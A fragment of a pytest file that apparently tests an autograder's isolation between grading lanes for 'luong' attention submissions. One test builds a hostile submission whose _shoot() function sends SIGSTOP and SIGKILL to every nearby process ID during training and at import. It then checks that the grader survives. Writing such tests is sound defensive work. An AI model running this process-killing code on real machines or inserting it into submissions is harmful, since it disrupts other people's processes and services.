    call = "_payload()\nif torch.is_grad_enabled() and _in_training():\n" + indent(crash, "    ") + "\n"
    src = hostile("luong", arena, top=CRASH_IN_TRAINING, call=call)
    g = judge(lab(files={"luong": src}), ["luong", "context"], Limits(case_timeout=30, piece_timeout=300, memory_gb=4,
                                                                       quick=False), fresh=True)
    arena.assert_unharmed(g.everything)
    full_marks(g, "context", "luong")
    msg = g.messages("luong")
    assert list(msg) == [LUONG_TRAINING] and msg[LUONG_TRAINING].strip(), msg


def _ancestors() -> list[int]:
    pids, pid = [], os.getpid()
    while pid > 1:
        pids.append(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    return pids


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_training_luong_piece_cannot_stop_the_other_lanes_processes(lab, arena):
    """While the grader trains it, the attention signals every nearby process id (the other lane's judge,
    fork server and worker among them; never this test's own ancestors) and keeps working: both lanes keep
    every point, the training case included."""
    spare = _ancestors()
    shoot = dedent(f"""
        def _shoot():
            for _pid in range(max(2, _os.getpid() - 300), _os.getpid() + 300):
                if _pid != _os.getpid() and _pid not in {spare!r}:
                    for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
                        try:
                            _os.kill(_pid, _sig)
                        except OSError:
                            pass
        """)
    call = ("_payload()\n"
            "if torch.is_grad_enabled() and _in_training() and not _SHOT:\n    _SHOT.append(1)\n    _shoot()\n")
    # at import too: the other lane's piece is starting at the same time
    src = hostile("luong", arena, top=CRASH_IN_TRAINING + shoot + "\n_SHOT = []\n", call=call, end="_shoot()")
    g = judge(lab(files={"luong": src}), ["luong", "context"], SLOW, fresh=True)
    arena.assert_unharmed(g.everything)
    full_marks(g, "context")
    assert g.score("luong") == sum(c["points"] for c in MANIFEST["luong"]), g.messages("luong")
